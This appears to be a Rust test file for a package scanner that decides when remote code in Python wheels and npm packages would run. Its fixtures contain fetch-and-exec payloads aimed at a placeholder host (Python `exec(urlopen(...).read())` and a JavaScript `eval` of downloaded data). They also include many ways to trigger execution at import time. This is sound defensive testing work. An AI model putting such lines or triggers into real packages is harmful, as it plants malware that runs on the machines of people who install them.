use crate::flow::testing::{remote_code, wheel};
use crate::unpack::{Entry, text_file as file};
use customs_model::Zone;

fn runs(entries: Vec<Entry>) -> Zone {
    remote_code(entries).unwrap_or(Zone::Never)
}

/// When what a module hands over runs; `go` runs what it downloads.
fn python(code: &str) -> Zone {
    let code = format!(
        "import atexit, threading\nimport urllib.request\n\
         def go():\n    exec(urllib.request.urlopen('https://a.invalid/b').read())\n{code}"
    );
    runs(wheel(&code))
}

/// A class that keeps what it gets, with more lines in its constructor.
fn option(more: &str) -> String {
    format!(
        "class Option:\n    def __init__(self, *names, callback=None):\n        \
         self.callback = callback\n{more}"
    )
}

const MADE: &str = "made = Option('--go', callback=go)\n";

#[test]
fn what_a_class_of_the_package_keeps_in_a_field_waits() {
    assert_eq!(python(&format!("{}{MADE}", option(""))), Zone::Called);
    let below = format!(
        "{}class Flag(Option):\n    pass\nFlag(callback=go)\n",
        option("")
    );
    assert_eq!(python(&below), Zone::Called);
    let above = "\
class Flag(Option):
    def __init__(self, callback=None):
        super().__init__('--flag', callback=callback)
Flag(go)
";
    assert_eq!(python(&format!("{}{above}", option(""))), Zone::Called);
    let thin = "\
def flag(callback=None):
    return Option('--flag', callback=callback)
flag(callback=go)
";
    assert_eq!(python(&format!("{}{thin}", option(""))), Zone::Called);
    let typed = format!(
        "import typing\n{}X = typing.Annotated[bool, {}]\n",
        option(""),
        MADE.trim_start_matches("made = ").trim_end()
    );
    assert_eq!(python(&typed), Zone::Called);
}

#[test]
fn what_tools_for_command_lines_get_waits_for_its_command() {
    let own = "import click\nclass Flag(click.Option):\n    pass\nFlag(['--go'], callback=go)\n";
    assert_eq!(python(own), Zone::Called);
    assert_eq!(
        python("import typer\ntyper.Option(None, callback=go)\n"),
        Zone::Command
    );
}

#[test]
fn what_is_handed_on_with_all_other_settings_waits_where_it_ends() {
    let flag = |body: &str| {
        format!(
            "import click\nclass Flag(click.Option):\n    def __init__(self, names, *, help=None, **more):\n{body}Flag(['--go'], callback=go)\n"
        )
    };
    let only = "        self.help = help\n        super().__init__(names, **more)\n";
    assert_eq!(python(&flag(only)), Zone::Called);
    for called in [
        "        more['callback']()\n        super().__init__(names, **more)\n",
        "        [f() for f in more.values()]\n",
        "        print(names, **more)\n",
        "        locals()['more']['callback']()\n        super().__init__(names, **more)\n",
    ] {
        assert_eq!(python(&flag(called)), Zone::Import, "{called}");
    }
}

#[test]
fn a_constructor_that_may_call_what_it_gets_does() {
    for more in [
        "        callback()\n",
        "        self.callback()\n",
        "        if callback: callback()\n",
        "        run = callback\n        run()\n",
        "        threading.Thread(target=callback).start()\n",
        "        threading.Timer(1, self.callback).start()\n",
        "        atexit.register(callback)\n",
        "        [f() for f in [callback]]\n",
        "        (lambda: callback())()\n",
        "        locals()['callback']()\n",
        "        self.run()\n    def run(self):\n        self.callback()\n",
        "    @property\n    def callback(self):\n        return 1\n    @callback.setter\n    \
         def callback(self, value):\n        value()\n",
        "    def __setattr__(self, name, value):\n        value()\n",
    ] {
        let code = format!("{}{MADE}", option(more));
        assert_eq!(python(&code), Zone::Import, "{more}");
    }
}

#[test]
fn what_is_kept_runs_when_something_that_runs_reads_the_field() {
    for last in [
        "made.callback()",
        "f = made.callback\nf()",
        "[each.callback() for each in [made, made]]",
        "for each in (made, made):\n    each.callback()",
        "threading.Thread(target=made.callback).start()",
        "atexit.register(made.callback)",
        "def all(given):\n    given.callback()\nall(made)",
    ] {
        let code = format!("{}{MADE}{last}\n", option(""));
        assert_eq!(python(&code), Zone::Import, "{last}");
    }
}

#[test]
fn a_field_that_is_only_asked_about_runs_nothing() {
    let code = format!(
        "{}{MADE}if made.callback is not None:\n    print('there')\n",
        option("")
    );
    assert_eq!(python(&code), Zone::Called);
}

#[test]
fn a_method_that_is_called_as_the_field_is_named_runs_nothing_that_is_kept() {
    let app = "\
class Base:
    def callback(self, **more):
        return lambda f: f
class App(Base):
    def __init__(self):
        self.other = 1
app = App()
@app.callback(invoke=True)
def main():
    pass
";
    let code = format!("{}{MADE}{app}", option(""));
    assert_eq!(python(&code), Zone::Called);
    let in_default = "def command(made=Option('--go', callback=go)):\n    pass\n";
    let code = format!("{}{in_default}{app}", option(""));
    assert_eq!(python(&code), Zone::Called);
    // The same where the objects may have the field all the same.
    let has_field = app.replace("self.other = 1", "self.callback = made.other");
    let of_option = app.replace("class Base:", "class Base(Option):");
    let of_library = app.replace("class Base:", "class Base(threading.local):");
    let decorated = app.replace("class App", "@known\nclass App");
    let property = app.replace("    def callback", "    @property\n    def callback");
    for loud in [has_field, of_option, of_library, decorated, property] {
        let code = format!("import known\n{}{MADE}{loud}", option(""));
        assert_eq!(python(&code), Zone::Import, "{loud}");
    }
}

#[test]
fn a_function_that_is_made_around_what_is_kept_counts_as_called() {
    let around = "\
def around(callback, first=None):
    def call(value):
        return callback(value)
    return call
";
    let code = format!("{}{MADE}{around}", option(""));
    // What is made of it may be called by anybody who has it.
    for last in ["x = around(made.callback)", "around(made.callback)(1)"] {
        assert_eq!(python(&format!("{code}{last}\n")), Zone::Import, "{last}");
    }
}

#[test]
fn what_a_decorator_puts_into_a_list_or_table_waits() {
    for keeper in [
        "hooks = []\ndef start(f):\n    hooks.append(f)\nstart(go)\n",
        "hooks = {}\ndef start(name, f):\n    hooks[name] = f\nstart('a', go)\n",
        "hooks = dict()\ndef start(name, f):\n    hooks[name] = f\nstart('a', f=go)\n",
    ] {
        assert_eq!(python(keeper), Zone::Called, "{keeper}");
        for last in [
            "for each in hooks:\n    each()\n",
            "[each() for each in hooks.values()]\n",
            "def all(given):\n    for each in given:\n        each()\nall(hooks)\n",
        ] {
            assert_eq!(python(&format!("{keeper}{last}")), Zone::Import, "{last}");
        }
    }
}

#[test]
fn a_keeper_that_is_something_else_than_it_looks_keeps_nothing() {
    for code in [
        // A list of its own.
        "class Now(list):\n    def append(self, f):\n        f()\nhooks = Now()\n\
         def start(f):\n    hooks.append(f)\nstart(go)\n",
        // Something stands above it.
        "def now(f):\n    return lambda g: g()\n@now\ndef start(f):\n    pass\nstart(go)\n",
        // The one that makes its objects.
        "class Maker(type):\n    def __call__(cls, f):\n        f()\n\
         class Option(metaclass=Maker):\n    def __init__(self, f):\n        self.f = f\nOption(go)\n",
        "class Option:\n    def __new__(cls, f):\n        f()\n    \
         def __init__(self, f):\n        self.f = f\nOption(go)\n",
        // What is counted is something else.
        "def start(f, g=None):\n    f()\nstart(*[go], go)\n",
        "class Maker(type):\n    def __call__(cls, f):\n        f()\n\
         class Base(metaclass=Maker):\n    pass\n\
         class Option(Base):\n    def __init__(self, f):\n        self.f = f\nOption(go)\n",
        "def start(*f, g=None):\n    f[0]()\nstart(go)\n",
        "def same(f):\n    return f\n\
         def start(f):\n    g = same(f)\n    g()\nstart(go)\n",
        "def start(f):\n    yield f\n[each() for each in start(go)]\n",
    ] {
        assert_eq!(python(code), Zone::Import, "{code}");
    }
}

#[test]
fn a_class_of_javascript_that_keeps_a_function_waits_as_well() {
    let module = |last: &str| {
        let code = format!(
            "const {{ get }} = require('https');\n\
             const go = () => get('https://a.invalid/b', (r) => r.on('data', (d) => eval(String(d))));\n\
             class Option {{ constructor(name, call) {{ this.run = call; }} }}\n\
             const made = new Option('go', go);\n{last}\nmodule.exports = {{ made }};\n"
        );
        runs(vec![
            file(
                "package/package.json",
                r#"{"name":"a","version":"1.0.0","main":"index.js"}"#,
            ),
            file("package/index.js", &code),
        ])
    };
    assert_eq!(module(""), Zone::Called);
    assert_eq!(module("made.run();"), Zone::Import);
    assert_eq!(module("setTimeout(made.run, 1);"), Zone::Import);
}

#[test]
fn a_class_and_an_object_wait_as_functions_do_until_what_keeps_them_calls_them() {
    let app = |inner: &str, more: &str| {
        format!(
            "class Info:\n    def __init__(self, cls=None):\n        self.cls = cls\n{more}\
             class App:\n    def callback(self, cls=None):\n        def inner(f):\n            \
             {inner}\n            return f\n        return inner\n    \
             def add(self, other):\n        self.others = Info(other)\n\
             app = App()\n"
        )
    };
    let class = "class Group:\n    def invoke(self):\n        go()\n\
                 @app.callback(cls=Group)\ndef main():\n    pass\n";
    let object =
        "class Called:\n    def __call__(self):\n        go()\nother = Called()\napp.add(other)\n";
    let keeps = "self.known = Info(cls=cls)";
    assert_eq!(python(&format!("{}{class}", app(keeps, ""))), Zone::Called);
    assert_eq!(python(&format!("{}{object}", app(keeps, ""))), Zone::Called);
    // What is handed over is made, and called, before anybody waits.
    let makes = "cls().invoke()";
    assert_eq!(python(&format!("{}{class}", app(makes, ""))), Zone::Import);
    let calls = "        cls()\n";
    assert_eq!(
        python(&format!("{}{object}", app(keeps, calls))),
        Zone::Import
    );
    // The first that is run and reads it may call it.
    let reads = "app.callback(cls=None)(print)\napp.known.cls().invoke()\n";
    assert_eq!(
        python(&format!("{}{class}{reads}", app(keeps, ""))),
        Zone::Import
    );
}
